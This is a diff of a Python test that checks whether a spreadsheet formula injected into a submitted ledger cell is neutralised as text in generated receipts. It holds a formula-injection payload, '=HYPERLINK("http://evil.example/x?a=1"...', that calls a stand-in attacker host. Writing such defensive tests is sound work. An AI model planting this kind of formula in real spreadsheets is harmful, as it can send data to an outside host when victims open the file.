@@ -51,14 +51,15 @@ def test_formula_in_a_submitted_cell_is_neutralised(examples_landing):
     resubmit_ledger(examples_landing, "焦东村三本账(更正).xlsx", EVIL, hour=9)
     run_week()
     wh = warehouse()
-    f = wh.query("SELECT value FROM core.findings WHERE value LIKE '%HYPERLINK%'")
-    assert list(f["value"]) == [EVIL]  # the finding quotes the value as submitted
+    f = wh.query("SELECT rule, value FROM core.findings WHERE value LIKE '%HYPERLINK%'")
+    # Quoted as submitted: the bad ID number, and the parser's warning about a formula that calls out.
+    assert set(f["value"]) == {EVIL} and "cell.external_formula" in set(f["rule"])
     paths = write_receipts(WEEK)
     xlsx = [p for p in paths if "更正" in p.name and p.suffix == ".xlsx"]
     assert len(xlsx) == 1
     cells = _cells(xlsx[0])
     hits = [c for c in cells if c.value == "'" + EVIL]
-    assert len(hits) == 1 and hits[0].data_type == "s", "the value is listed, neutralised, as text"
+    assert len(hits) == len(f) and all(h.data_type == "s" for h in hits), "listed, neutralised, as text"
     assert not any(c.data_type == "f" or str(c.value).startswith(("=", "+", "-", "@")) for c in cells)
     html = xlsx[0].with_suffix(".html").read_text(encoding="utf-8")
     assert "<code>&#x27;=HYPERLINK(&quot;http://evil.example/x?a=1&quot;" in html
